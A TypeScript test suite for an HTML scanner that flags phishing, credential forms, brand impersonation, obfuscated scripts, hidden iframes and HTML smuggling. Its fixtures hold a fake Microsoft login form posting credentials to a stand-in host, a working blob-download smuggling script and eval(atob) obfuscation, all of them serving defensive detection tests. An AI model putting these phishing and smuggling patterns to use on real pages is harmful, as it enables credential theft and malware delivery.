import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { htmlScanner, mayFollowLinks, siteOf, tokenize, MAX_LINKS } from './html.ts';
import { eicar, makeZip, runScanner, type RunResult } from './testing.ts';
import { decide } from '../verdict/rules.ts';

function verdictOf(r: RunResult): string {
  return decide(r.evidence.map((e) => ({ ...e, scanner: 'html', layer: 'document' })), [], { scoreSuspicious: 300, scoreMalicious: 1000 }).verdict;
}

const page = (body: string, head = '') => Buffer.from(`<!DOCTYPE html>\n<html><head><meta charset="utf-8">${head}</head><body>${body}</body></html>`);

const PHISH = page(
  `<div class="box"><img src="/img/ms-logo.png" alt="Microsoft"><h1>Sign in</h1>
   <form method="POST" action="https://collect.badhost.test/owa/post.php">
     <input type="email" name="loginfmt" placeholder="Email, phone, or Skype">
     <input type="password" name="passwd" placeholder="Password">
     <input type="submit" value="Sign in">
   </form></div>`,
  '<title>Sign in to your Microsoft account</title>',
);

describe('HTML scanner', () => {
  test('a phishing page: password form posting to another site under a brand it does not own is SUS', async () => {
    const r = await runScanner(htmlScanner, PHISH, { name: 'https://office365-verify.example.test/login/', depth: 1, relation: 'fetched_content' });
    assert.deepEqual(r.heuristics.sort(), ['HTML_BRAND_IMPERSONATION', 'HTML_CREDENTIAL_FORM', 'HTML_FORM_OFFSITE']);
    const brand = r.evidence.find((e) => e.heuristic === 'HTML_BRAND_IMPERSONATION')!;
    assert.equal(brand.data?.brand, 'Microsoft');
    assert.equal(brand.data?.where, 'title');
    assert.equal(verdictOf(r), 'SUS');
    assert.equal(r.attributes.pageSite, 'example.test');
    // the form's target is handed out as a link
    assert.ok(r.children.some((c) => 'url' in c && c.url === 'https://collect.badhost.test/owa/post.php'));
  });

  test('the brand\'s own login page is clean', async () => {
    const own = Buffer.from(PHISH.toString().replace('https://collect.badhost.test/owa/post.php', '/common/login'));
    const r = await runScanner(htmlScanner, own, { name: 'https://login.microsoftonline.com/common/oauth2/authorize', depth: 1, relation: 'fetched_content' });
    assert.deepEqual(r.heuristics, []);
    assert.equal(verdictOf(r), 'CLN');
  });

  test('the same form in an attachment (no address of its own) is SUS', async () => {
    const r = await runScanner(htmlScanner, PHISH, { name: 'Invoice_0442.html', depth: 1, relation: 'attachment' });
    assert.ok(r.heuristics.includes('HTML_CREDENTIAL_FORM'));
    assert.ok(r.heuristics.includes('HTML_FORM_OFFSITE'));
    assert.ok(r.heuristics.includes('HTML_BRAND_IMPERSONATION'));
    assert.equal(verdictOf(r), 'SUS');
  });

  test('a plain page is clean; its links become children (http(s), resolved, deduplicated, bounded)', async () => {
    const links = Array.from({ length: 40 }, (_, i) => `<a href="/docs/page${i % 30}.html#top">Page ${i}</a>`).join('\n');
    const body = `<h1>Release notes</h1><p>Version 2.1 fixes bugs &amp; improves speed.</p>
      <a href="mailto:team@example.org">mail us</a> <a href="javascript:void(0)">menu</a> <a href="https://other.example.net/x">partner</a>
      ${links}<script>document.getElementById('y').textContent = new Date().getFullYear();</script>`;
    const r = await runScanner(htmlScanner, page(body, '<title>Release notes</title>'), { name: 'https://www.example.org/notes/', depth: 1, relation: 'fetched_content' });
    assert.deepEqual(r.heuristics, []);
    assert.equal(verdictOf(r), 'CLN');
    const urls = r.children.filter((c) => c.relation === 'link').map((c) => ('url' in c ? c.url : ''));
    assert.equal(urls.length, MAX_LINKS);
    assert.equal(urls[0], 'https://other.example.net/x');
    assert.equal(urls[1], 'https://www.example.org/docs/page0.html');
    assert.equal(new Set(urls).size, urls.length);
    const scripts = r.children.filter((c) => c.relation === 'script');
    assert.equal(scripts.length, 1);
    assert.equal(scripts[0].name, 'inline-script-1.js');
    assert.equal(r.attributes.htmlTitle, 'Release notes');
  });

  test('a page reached by following a link hands out no links (one hop)', async () => {
    assert.equal(mayFollowLinks({ depth: 2, relation: 'fetched_content' }), false);
    assert.equal(mayFollowLinks({ depth: 1, relation: 'fetched_content' }), true);
    assert.equal(mayFollowLinks({ depth: 3, relation: 'attachment' }), true);
    const r = await runScanner(htmlScanner, page('<a href="https://a.example.org/">a</a>'), { name: 'https://x.example.org/', depth: 2, relation: 'fetched_content' });
    assert.equal(r.children.length, 0);
  });

  test('obfuscated script, redirects, data: navigation and hidden frames', async () => {
    const esc = [...'<iframe src="https://exploit.test/">'].map((c) => '%' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
    const body = `<script>document.write(unescape("${esc}"));</script>
      <iframe src="https://tracker.badhost.test/x" width="1" height="0"></iframe>
      <iframe src="https://ads.badhost.test/y" style="display: none"></iframe>
      <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Open document</a>
      <script>setTimeout(function () { window.location.href = "https://next.badhost.test/land"; }, 100);</script>`;
    const r = await runScanner(htmlScanner, page(body, '<meta http-equiv="refresh" content="5; URL=\'https://other.badhost.test/\'">'), { name: 'doc.html' });
    assert.ok(r.heuristics.includes('HTML_OBFUSCATED_SCRIPT'));
    assert.ok(r.heuristics.includes('HTML_REDIRECT'));
    assert.ok(r.heuristics.includes('HTML_DATA_URI'));
    const hidden = r.evidence.find((e) => e.heuristic === 'HTML_HIDDEN_IFRAME')!;
    assert.deepEqual(hidden.data?.sources, ['https://tracker.badhost.test/x', 'https://ads.badhost.test/y']);
    const redirect = r.evidence.find((e) => e.heuristic === 'HTML_REDIRECT')!;
    assert.deepEqual((redirect.data?.redirects as { kind: string }[]).map((x) => x.kind), ['meta_refresh', 'script']);
    assert.equal(r.children.filter((c) => c.relation === 'script').length, 2);
  });

  test('HTML smuggling: the embedded payload is decoded as a child', async () => {
    const zip = await makeZip({ 'invoice.com': eicar(), 'pad.txt': Buffer.alloc(2000, 'x') }, { level: 0 });
    const body = `<script>
      var b64 = "${zip.toString('base64')}";
      var bin = atob(b64); var bytes = new Uint8Array(bin.length);
      for (var i = 0; i < bin.length; i++) bytes[i] = bin.charCodeAt(i);
      var blob = new Blob([bytes], {type: 'application/octet-stream'});
      var a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'invoice.zip'; a.click();
    </script>`;
    const r = await runScanner(htmlScanner, page(body), { name: 'invoice.html' });
    assert.ok(r.heuristics.includes('HTML_SMUGGLING'));
    const payload = r.children.find((c) => c.name === 'smuggled-1.bin')!;
    assert.equal(payload.relation, 'embedded_object');
    assert.ok(payload.bytes!.equals(zip));
  });

  test('SVG with script and a credential form in foreignObject', async () => {
    const svg = Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
      <script type="text/javascript"><![CDATA[ eval(atob("YWxlcnQoMSk=")) ]]></script>
      <foreignObject><form action="https://harvest.badhost.test/p"><input type="password" name="p"></form></foreignObject>
      <a xlink:href="https://dropbox-share.badhost.test/f"><text>Dropbox: view document</text></a></svg>`);
    const r = await runScanner(htmlScanner, svg, { name: 'fax.svg' });
    assert.ok(r.heuristics.includes('HTML_OBFUSCATED_SCRIPT'));
    assert.ok(r.heuristics.includes('HTML_CREDENTIAL_FORM'));
    assert.equal(r.evidence.find((e) => e.heuristic === 'HTML_BRAND_IMPERSONATION')?.data?.brand, 'Dropbox');
  });

  test('the tokenizer survives broken markup', async () => {
    const t = tokenize('<a href=x>unterminated <b <<>> <script>never closed <div a=1 b c="2" d=\'3\'>text &amp; &#x41; &#65;');
    assert.equal(t.tags[0].name, 'a');
    assert.equal(t.tags.at(-1)!.name, 'script');
    const started = Date.now();
    const junk = Buffer.alloc(2 * 1024 * 1024);
    let seed = 9;
    for (let i = 0; i < junk.length; i++) {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      junk[i] = '<>/"\'= aformiputscrp'.charCodeAt(seed % 21);
    }
    await runScanner(htmlScanner, Buffer.concat([Buffer.from('<html>'), junk]), { name: 'junk.html' });
    await runScanner(htmlScanner, Buffer.from('<html>' + '<div a=1 '.repeat(200_000)), { name: 'attrs.html' });
    await runScanner(htmlScanner, Buffer.from('<html><script>' + '"'.repeat(1_000_000)), { name: 'q.html' });
    assert.ok(Date.now() - started < 15_000, `took ${Date.now() - started} ms`);
    assert.equal(siteOf('a.b.example.co.uk'), 'example.co.uk');
    assert.equal(siteOf('login.microsoftonline.com'), 'microsoftonline.com');
  });

  test('base64-looking runs just short of the smuggling threshold stay linear (fuzz regression: 3.4 s, then 7 s for a whole page)', async () => {
    const started = Date.now();
    const r = await runScanner(htmlScanner, page(`<script>var b = new Blob([atob(p)]); URL.createObjectURL(b);\n${('QUFB'.repeat(249) + ' ').repeat(1000)}</script>`), { name: 'runs.html' });
    assert.ok(Date.now() - started < 1500, `took ${Date.now() - started} ms`);
    assert.ok(!r.heuristics.includes('HTML_SMUGGLING'), r.heuristics.join());
  });
});
